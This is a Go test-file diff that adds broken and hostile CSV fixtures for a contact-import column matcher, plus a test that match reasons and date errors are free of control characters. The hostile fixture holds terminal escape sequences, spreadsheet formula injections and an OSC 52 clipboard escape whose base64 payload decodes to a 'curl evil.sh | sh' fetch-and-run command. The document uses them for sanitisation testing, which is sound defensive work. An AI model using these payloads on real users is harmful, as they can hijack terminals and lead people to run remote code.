@@ -224,6 +224,58 @@ func realFiles() []matchCase {
 			typ:    domain.TypeDeal,
 			fields: []string{"title", "company", "", "stage", "amount", "close_date", "notes"},
 		},
+		{
+			name: "broken: bad values",
+			// Kontor fixture broken/bad-values.csv, as CSV reads it (two
+			// rows are ragged: "1.000.000,5" and "12 500,00" unquoted).
+			rows: [][]string{
+				{"First Name", "Last Name", "Email", "Phone", "Date of Birth", "Amount"},
+				{"Anna", "Nowak", "not-an-email", "12", "31/02/2020", "abc"},
+				{"Jan", "", "jan@@example.com", "+48 600 100 200", "2020-13-01", "1.000.000", "5"},
+				{"", "", "", "", "", ""},
+				{"Ewa", "Mazur", "ewa@example.com", "+48 600 100 201", "1990-05-05", "12 500", "00"},
+			},
+			typ:    domain.TypePerson,
+			fields: []string{"first_name", "last_name", "email", "phone", "birthday", ""},
+		},
+		{
+			name: "broken: duplicate and empty headers",
+			rows: [][]string{
+				{"Name", "Email", "", "Email", "Phone"},
+				{"Anna Nowak", "anna@a.pl", "x", "anna2@a.pl", "123"},
+			},
+			typ:    domain.TypePerson,
+			fields: []string{"full_name", "email", "", "email_other", "phone"},
+		},
+		{
+			name:   "broken: header only",
+			rows:   [][]string{{"First Name", "Last Name", "Email"}},
+			typ:    domain.TypePerson,
+			fields: []string{"first_name", "last_name", "email"},
+		},
+		{
+			name: "broken: huge field (shortened here), ragged rows",
+			rows: [][]string{
+				{"First Name", "Last Name", "Description"},
+				{"Anna", "Nowak", strings.Repeat("x", 2000)},
+				{"Jan"},
+				{"Ewa", "Mazur", "ok", "extra", "more"},
+			},
+			typ:    domain.TypePerson,
+			fields: []string{"first_name", "last_name", "notes"},
+		},
+		{
+			name: "hostile: terminal escapes and formulas",
+			// Kontor fixture hostile/terminal-and-formula.csv
+			rows: [][]string{
+				{"First Name", "Last Name", "Email", "Description"},
+				{"Mallory", "Escape\x1b[2J\x1b[H", "evil@example.com", `=HYPERLINK("http://x","click")`},
+				{"Eve", "Clip\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\aboard", "eve@example.com", "+1+1"},
+				{"Trudy", "Title\x1b]0;pwned\a", "trudy@example.com", "-2+3"},
+			},
+			typ:    domain.TypePerson,
+			fields: []string{"first_name", "last_name", "email", "notes"},
+		},
 	}
 }
 
@@ -349,14 +401,14 @@ func TestMatchRealAndHandMadeFiles(t *testing.T) {
 			if mr.TypeScores[tc.typ] < 0.4 {
 				t.Errorf("type %s has a share of only %.2f: %v", tc.typ, mr.TypeScores[tc.typ], mr.TypeScores)
 			}
-			checkColumns(t, MatchAs(tc.typ, headers, samples), tc.fields)
+			checkMatchColumns(t, MatchAs(tc.typ, headers, samples), tc.fields)
 			// Without values the headers alone must do.
-			checkColumns(t, MatchAs(tc.typ, headers, nil), tc.fields)
+			checkMatchColumns(t, MatchAs(tc.typ, headers, nil), tc.fields)
 		})
 	}
 }
 
-func checkColumns(t *testing.T, mr MatchResult, want []string) {
+func checkMatchColumns(t *testing.T, mr MatchResult, want []string) {
 	t.Helper()
 	if len(mr.Columns) != len(want) {
 		t.Fatalf("%d columns, want %d", len(mr.Columns), len(want))
@@ -398,7 +450,7 @@ func checkColumns(t *testing.T, mr MatchResult, want []string) {
 }
 
 // fieldsOf lists the fields of a match, column by column.
-func fieldsOf(mr MatchResult) []string {
+func matchFields(mr MatchResult) []string {
 	var out []string
 	for _, c := range mr.Columns {
 		out = append(out, c.Field)
@@ -414,7 +466,7 @@ func TestMatchShuffledHeaders(t *testing.T) {
 		want[h] = zoho.fields[i]
 	}
 	// Reverse, and rotate: every permutation must give each header its field.
-	for _, perm := range [][]int{reversed(len(headers)), rotated(len(headers), 7)} {
+	for _, perm := range [][]int{reversedPerm(len(headers)), rotatedPerm(len(headers), 7)} {
 		h2 := make([]string, len(headers))
 		r2 := make([][]string, len(rows))
 		for i := range r2 {
@@ -438,7 +490,7 @@ func TestMatchShuffledHeaders(t *testing.T) {
 	}
 }
 
-func reversed(n int) []int {
+func reversedPerm(n int) []int {
 	out := make([]int, n)
 	for i := range out {
 		out[i] = n - 1 - i
@@ -446,7 +498,7 @@ func reversed(n int) []int {
 	return out
 }
 
-func rotated(n, k int) []int {
+func rotatedPerm(n, k int) []int {
 	out := make([]int, n)
 	for i := range out {
 		out[i] = (i + k) % n
@@ -594,7 +646,7 @@ func TestMatchSynthetic(t *testing.T) {
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
 			mr := MatchAs(tc.typ, tc.headers, tc.rows)
-			if got := fieldsOf(mr); !slices.Equal(got, tc.want) {
+			if got := matchFields(mr); !slices.Equal(got, tc.want) {
 				for _, c := range mr.Columns {
 					t.Logf("%q → %q %.2f %s %v", c.Header, c.Field, c.Confidence, c.Reason, c.Candidates)
 				}
@@ -635,6 +687,19 @@ func TestMatchReasons(t *testing.T) {
 	skipped := MatchAs(domain.TypePerson, []string{"Email", "Lead Source"}, nil).Columns[1]
 	if skipped.Field != "" || !strings.Contains(skipped.Reason, "Lead Source") {
 		t.Errorf("skipped column: %+v", skipped)
+	}
+}
+
+func TestMatchReasonsAreSafeToPrint(t *testing.T) {
+	// Headers from the hostile fixture: escape sequences, bell, bidi override.
+	headers := []string{"Last Name", "Escape\x1b[2J\x1b[H", "Clip\x1b]52;c;Y3VybA==\x07board", "\u202eliame"}
+	for _, c := range MatchAs(domain.TypePerson, headers, nil).Columns {
+		if strings.ContainsFunc(c.Reason, func(r rune) bool { return r == 0x1b || r == 0x07 || r == 0x202e }) {
+			t.Errorf("reason for %q carries control characters: %q", c.Header, c.Reason)
+		}
+	}
+	if _, err := ParseDate("\x1b[2J", ColumnFormat{}); err == nil || strings.ContainsRune(err.Error(), 0x1b) {
+		t.Errorf("date error carries the escape: %v", err)
 	}
 }
 
